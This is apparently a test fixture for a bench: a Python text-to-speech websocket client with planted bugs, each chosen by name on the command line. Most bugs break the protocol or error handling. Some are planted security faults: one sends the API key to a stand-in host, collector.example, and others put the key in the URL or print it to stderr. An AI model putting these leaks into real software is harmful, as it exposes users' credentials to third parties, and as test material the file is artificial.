"""A client of the service with one bug, by name: what the bench has to find.

    python buggy_client.py BUG

It reads ``TTS_*`` as programs on the bench do. ``none`` is the same client without a bug.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
import wave
from typing import Any

import websockets
from websockets.asyncio.client import ClientConnection, connect

BUG = sys.argv[1]
ENV = os.environ
RATE = 24_000
KNOWN = (
    "session.created session.updated session.finished error response.created response.done input_text_buffer.committed "
    "response.output_item.added response.output_item.done response.content_part.added response.content_part.done "
    "response.audio.delta response.audio.done"
).split()


class Failed(Exception):
    """The service refused, broke off or fell silent."""


class Client:
    """One session."""

    def __init__(self, connection: ClientConnection) -> None:
        self.connection = connection
        self.deltas: list[str] = []
        self.timeout_s = None if BUG == "waits-for-ever" else float(ENV["TTS_TIMEOUT_S"])

    async def send(self, kind: str, **members: Any) -> None:
        event_id = "event_1" if BUG == "same-event-id" else f"event_{uuid.uuid4().hex}"
        await self.connection.send(json.dumps({"event_id": event_id, "type": kind, **members}))

    async def receive(self) -> dict[str, Any]:
        try:
            event: dict[str, Any] = json.loads(await asyncio.wait_for(self.connection.recv(), self.timeout_s))
        except TimeoutError:
            raise Failed("nothing came any more") from None
        except websockets.ConnectionClosed as exc:
            if BUG == "takes-close-for-end":
                return {"type": "session.finished"}
            raise Failed(f"closed too early: {exc}") from None
        if event["type"] == "error" and BUG == "waits-after-error":
            await asyncio.Event().wait()
        if event["type"] == "error" and BUG != "ignores-errors":
            raise Failed(str(event["error"]))
        if event["type"] not in KNOWN and BUG == "breaks-on-unknown-event":
            raise KeyError(event["type"])
        return event

    async def run(self) -> None:
        if BUG != "appends-before-created":
            while (await self.receive())["type"] != "session.created":
                pass
        session = {"voice": ENV["TTS_VOICE"], "mode": "server_commit", "response_format": "pcm", "sample_rate": RATE}
        if BUG == "volume-out-of-range":
            session["volume"] = 500
        await self.send("session.update", session=session)
        text = ENV["TTS_TEXT"]
        if BUG == "loses-marks":
            text = text.encode("ascii", "ignore").decode().replace('"', "")
        if BUG == "delta-for-text":
            await self.send("input_text_buffer.append", delta=text)
        else:
            await self.send("input_text_buffer.append", text=text)
        if BUG == "commits-twice":
            await self.send("input_text_buffer.commit")
            await self.send("input_text_buffer.commit")
        if BUG == "never-finishes":
            await self.send("input_text_buffer.commit")
        else:
            await self.send("session.finish")
        if BUG == "sends-after-finish":
            await self.send("input_text_buffer.commit")
        if BUG == "binary-frames":
            await self.connection.send(b"\0\0")
        await self.hear()

    async def hear(self) -> None:
        last = {"first-response-is-all": "response.done", "never-finishes": "response.done"}.get(
            BUG, "session.finished"
        )
        while (event := await self.receive())["type"] != last:
            if event["type"] == "response.audio.delta":
                self.deltas.append(event["delta"])
            elif event["type"] != "response.done" or BUG == "ignores-status":
                continue
            elif event["response"]["status"] != "completed":
                raise Failed(event["response"]["status"])


def audio_of(deltas: list[str]) -> bytes:
    if BUG == "drops-last-chunk":
        deltas = deltas[:-1]
    if BUG == "joins-base64":
        return base64.b64decode("".join(d.rstrip("=") for d in deltas) + "==")
    return b"".join(base64.b64decode(d) for d in deltas)


def url() -> str:
    found = f"{ENV['TTS_WS_URL']}?model={ENV['TTS_MODEL']}"
    return f"{found}&api_key={ENV['TTS_API_KEY']}" if BUG == "key-in-url" else found


def tell_a_collector() -> None:
    headers = {"X-Api-Key": ENV["TTS_API_KEY"]} if BUG == "key-to-another-host" else {}
    request = urllib.request.Request("http://collector.example/started", headers=headers)
    with contextlib.suppress(urllib.error.URLError, OSError):
        urllib.request.urlopen(request, timeout=2).close()


async def speak() -> bytes:
    if BUG in ("key-to-another-host", "telemetry"):
        tell_a_collector()
    if BUG == "prints-key":
        sys.stderr.write(f"connecting with {ENV['TTS_API_KEY']}\n")
    again = 0
    while True:
        try:
            headers = {"Authorization": f"Bearer {ENV['TTS_API_KEY']}"}
            async with connect(url(), additional_headers=headers, open_timeout=float(ENV["TTS_TIMEOUT_S"])) as socket:
                client = Client(socket)
                await client.run()
                if BUG == "leaves-hard":
                    os._exit(0)
            break
        except (Failed, OSError, websockets.WebSocketException):
            again += 1
            if BUG != "reconnects-endlessly" or again > 300:
                raise
    if not client.deltas and BUG not in ("takes-close-for-end", "accepts-silence"):
        raise Failed("no audio")
    return audio_of(client.deltas)


def main() -> int:
    if BUG == "built-in-address":
        ENV["TTS_WS_URL"] = "ws://127.0.0.1:9/api-ws/v1/realtime"
    if BUG == "built-in-model":
        ENV["TTS_MODEL"] = "qwen3-tts-instruct-flash-realtime"
    try:
        audio = asyncio.run(speak())
    except (Failed, OSError, TimeoutError, websockets.WebSocketException) as exc:
        if BUG != "fails-without-a-word":
            sys.stderr.write(f"no speech: {exc!r}\n")
        return 0 if BUG == "exits-0-on-error" else 1
    with wave.open(ENV["TTS_OUTPUT"], "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(16_000 if BUG == "wrong-rate" else RATE)
        file.writeframes(audio)
    if BUG == "lingers":
        time.sleep(60)
    return 0


if __name__ == "__main__":
    sys.exit(main())
